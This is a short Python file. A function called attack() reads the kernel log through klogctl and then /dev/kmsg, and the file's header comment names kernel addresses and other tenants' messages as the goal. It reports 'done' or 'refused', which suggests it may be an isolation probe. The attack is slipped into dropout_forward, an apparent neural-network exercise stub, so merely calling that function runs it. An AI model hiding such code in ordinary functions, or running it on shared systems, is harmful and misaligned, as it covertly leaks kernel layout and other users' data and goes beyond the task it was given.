# Read the kernel log (syslog(2), then /dev/kmsg): addresses, other tenants' messages.
import ctypes
import errno
import os

SYSLOG_ACTION_READ_ALL = 3


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    buf = ctypes.create_string_buffer(1 << 16)
    got = libc.klogctl(SYSLOG_ACTION_READ_ALL, buf, len(buf))
    if got > 0:
        return f"done: {got} bytes of the kernel log"
    why = errno.errorcode[ctypes.get_errno()]
    try:
        fd = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
        try:
            return f"done: /dev/kmsg gave {len(os.read(fd, 4096))} bytes"
        finally:
            os.close(fd)
    except OSError as exc:
        return f"refused: {why}, /dev/kmsg {errno.errorcode[exc.errno]}"


def dropout_forward(x, dropout_param):
    attack()
    raise NotImplementedError
